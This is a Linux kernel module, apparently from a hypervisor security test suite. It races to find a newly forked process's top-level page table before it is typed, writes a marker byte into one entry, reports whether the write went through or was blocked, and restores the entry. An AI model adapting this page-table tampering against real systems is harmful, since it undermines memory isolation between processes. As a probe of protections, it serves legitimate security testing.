// SPDX-License-Identifier: GPL-2.0
/*
 * Attack: the top-level page table of a process forked after the module
 * loaded, so after the hypervisor's last walk of the processes' tables.
 * The kernel lists it on pgd_list at once but gives it no page type; the
 * module waits for it there and writes an entry of its user half at once.
 */
#include <linux/module.h>
#include <linux/mm.h>
#include <linux/delay.h>
#include "alias.h"

static unsigned long list;
module_param(list, ulong, 0400);

#define KNOWN 256

static int known(struct page **seen, int n, struct page *page)
{
	int i;

	for (i = 0; i < n; i++)
		if (seen[i] == page)
			return 1;
	return 0;
}

static int __init atk_init(void)
{
	struct list_head *head = (struct list_head *)list, *p;
	static struct page *seen[KNOWN];
	struct page *fresh = NULL;
	int n = 0, tries, steps;
	unsigned long *pgd, before;

	if (!list)
		return -EINVAL;
	for (p = READ_ONCE(head->next), steps = 0; p != head && n < KNOWN && steps < 4096; p = READ_ONCE(p->next), steps++)
		seen[n++] = list_entry(p, struct page, lru);
	for (tries = 0; tries < 500 && !fresh; tries++) {
		msleep(10);
		for (p = READ_ONCE(head->next), steps = 0; p != head && steps < 4096; p = READ_ONCE(p->next), steps++)
			if (!known(seen, n, list_entry(p, struct page, lru))) {
				fresh = list_entry(p, struct page, lru);
				break;
			}
	}
	if (!fresh) {
		report("no new process seen");
		return 0;
	}
	/* Entry 200 of the user half: not present, so a harmless marker if it lands. */
	pgd = page_address(fresh);
	before = READ_ONCE(pgd[200]);
	nofault_write((unsigned long)&pgd[200] + 1, 0x7e);
	report("new process's top-level table write %s", READ_ONCE(pgd[200]) != before ? "WENT THROUGH" : "blocked");
	if (READ_ONCE(pgd[200]) != before)
		WRITE_ONCE(pgd[200], before);
	return 0;
}

static void __exit atk_exit(void)
{
}

module_init(atk_init);
module_exit(atk_exit);
MODULE_LICENSE("GPL");
